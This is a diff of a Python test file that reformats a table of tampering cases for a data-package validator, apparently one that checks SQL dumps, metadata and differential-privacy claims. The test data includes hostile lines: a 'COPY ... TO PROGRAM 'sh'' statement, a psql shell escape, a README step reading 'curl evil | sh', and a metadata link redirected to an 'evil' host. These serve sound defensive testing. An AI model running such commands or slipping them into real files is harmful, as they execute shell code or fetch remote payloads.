@@ -122,8 +122,14 @@ BEFORE, AFTER, FACTS, PAPER = (
 ATTACKS = {
     "an unknown file": (append("evil.sh", "x"), "evil.sh: unknown"),
     "a file among the rows": (append("data/public.customer/99999.csv", "x"), "99999.csv: unknown"),
-    "a program": (append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"), BEFORE),
-    "a command": (append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"), "not allowed (CopyStmt)"),
+    "a program": (
+        append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"),
+        BEFORE,
+    ),
+    "a command": (
+        append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"),
+        "not allowed (CopyStmt)",
+    ),
     "an end of the transaction": (append(AFTER, "COMMIT;\n"), "not allowed (TransactionStmt)"),
     "a block": (append(AFTER, "DO 'BEGIN END';\n"), "not allowed (DoStmt)"),
     "a command of psql": (append(AFTER, "\\! touch /tmp/x\n"), AFTER),
@@ -151,7 +157,10 @@ ATTACKS = {
     "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
     "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
     "a certificate for people": (swap("certificate.md", "| ε | 3", "| ε | 1"), "certificate.md: "),
-    "metadata": (swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'), "croissant"),
+    "metadata": (
+        swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'),
+        "croissant",
+    ),
     "a smaller ε": (put(PAPER, "promise", "epsilon", value=1.0), "less is stated"),
     "a smaller δ": (put(PAPER, "promise", "delta", value=1e-12), "less is stated"),
     "less noise": (put(PAPER, "events", 0, "scale", value=0.01), "less than its mechanism loses"),
